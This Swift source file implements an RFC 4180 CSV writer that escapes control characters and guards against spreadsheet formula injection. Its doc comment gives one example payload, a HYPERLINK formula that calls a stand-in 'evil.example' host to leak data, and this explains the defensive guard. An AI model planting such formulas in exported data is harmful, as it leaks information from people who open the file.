/// RFC 4180 CSV: CRLF line ends, fields quoted when they hold a comma, a quote or a line break.
///
/// Two things keep a CSV file from acting on whoever opens it. Control characters other than tab, CR and
/// LF are written visibly (``ControlCharacters``), since CSV is read on terminals too. And, unless
/// `formulaGuard` is off, a field that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'` (OWASP's rule against CSV injection): a spreadsheet would otherwise run a page title such as
/// `=HYPERLINK("http://evil.example/?leak","Click")` as a formula. Programs that read the CSV as data can
/// turn the guard off (`--raw-csv`).
public enum CSVWriting {
    /// One record, ending in CRLF.
    /// - Parameters:
    ///   - fields: the values in column order; nil writes an empty field.
    ///   - formulaGuard: prefix `'` to fields a spreadsheet would read as a formula (the default).
    /// - Returns: the record, quoted and escaped where needed.
    public static func record(_ fields: [String?], formulaGuard: Bool = true) -> String {
        var line = ""
        line.reserveCapacity(256)
        for (index, field) in fields.enumerated() {
            if index > 0 { line += "," }
            line += Self.field(field ?? "", formulaGuard: formulaGuard)
        }
        line += "\r\n"
        return line
    }

    /// The first characters that make a spreadsheet treat a cell as a formula.
    static let formulaStarts: Set<UInt8> = [
        UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D,
    ]

    static func field(_ text: String, formulaGuard: Bool = true) -> String {
        var text = ControlCharacters.escaped(text, keeping: .layout)
        if formulaGuard, let first = text.utf8.first, formulaStarts.contains(first) { text = "'" + text }
        // A byte scan: these four are ASCII, and Foundation's string search is slow on Linux.
        guard text.utf8.contains(where: { $0 == 0x2C || $0 == 0x22 || $0 == 0x0A || $0 == 0x0D }) else { return text }
        // Every quote byte doubled, by byte: going by Character was a sixth of a CSV export's time, and left a
        // quote followed by a combining mark (one Character) undoubled.
        return "\"" + replacing(UInt8(ascii: "\""), with: "\"\"", in: text) + "\""
    }

    /// `text` with every `byte` (an ASCII byte, which is never part of a longer UTF-8 sequence) replaced by
    /// `replacement`: what `replacingOccurrences(of:with:)` gives for a one-character ASCII string, without
    /// Foundation's string search.
    static func replacing(_ byte: UInt8, with replacement: StaticString, in text: String) -> String {
        var text = text
        let count = text.withUTF8 { bytes in bytes.reduce(0) { $0 + ($1 == byte ? 1 : 0) } }
        guard count > 0 else { return text }
        return text.withUTF8 { bytes in
            let added = replacement.utf8CodeUnitCount - 1
            return String(unsafeUninitializedCapacity: bytes.count + count * added) { output in
                var at = 0
                for value in bytes {
                    if value == byte {
                        for unit in UnsafeBufferPointer(
                            start: replacement.utf8Start, count: replacement.utf8CodeUnitCount)
                        {
                            output[at] = unit
                            at += 1
                        }
                    } else {
                        output[at] = value
                        at += 1
                    }
                }
                return at
            }
        }
    }
}
